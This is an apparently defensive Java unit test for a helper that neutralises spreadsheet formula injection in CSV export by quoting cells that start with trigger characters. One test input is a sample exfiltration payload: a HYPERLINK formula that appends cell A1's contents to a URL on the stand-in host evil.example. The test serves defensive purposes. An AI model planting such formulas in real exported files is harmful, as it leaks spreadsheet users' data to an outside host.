package org.barometer.platform.csv;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class SpreadsheetTextTest {

  @Test
  void aFormulaInFreeTextBecomesText() {
    String comment = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    assertEquals("'" + comment, SpreadsheetText.neutralised(comment));
  }

  @ParameterizedTest
  @ValueSource(strings = {"=1+1", "+47 12345678", "-2+3", "@SUM(A1)", "\tx", "\rx", "-", "-x"})
  void everyStartASpreadsheetEvaluatesIsQuoted(String text) {
    assertEquals("'" + text, SpreadsheetText.neutralised(text));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"-1.5", "-3", "2,5", "-0,25", "1e5", "-2E-3", "42", "", "Raskere byggesaker"})
  void plainNumbersAndOrdinaryTextStayAsTheyAre(String text) {
    assertEquals(text, SpreadsheetText.neutralised(text));
  }

  @Test
  void nullStaysNull() {
    assertNull(SpreadsheetText.neutralised(null));
    assertNull(SpreadsheetText.restored(null));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '"',
      value = {
        "=1+1|'=1+1",
        "'=1+1|''=1+1",
        "''=x|'''=x",
        "'quoted'|'quoted'",
        "'-1.5|'-1.5",
        "it's|it's"
      })
  void aQuoteBeforeATriggerIsQuotedAgainSoRestoringIsExact(String text, String cell) {
    assertEquals(cell, SpreadsheetText.neutralised(text));
    assertEquals(text, SpreadsheetText.restored(cell));
  }
}
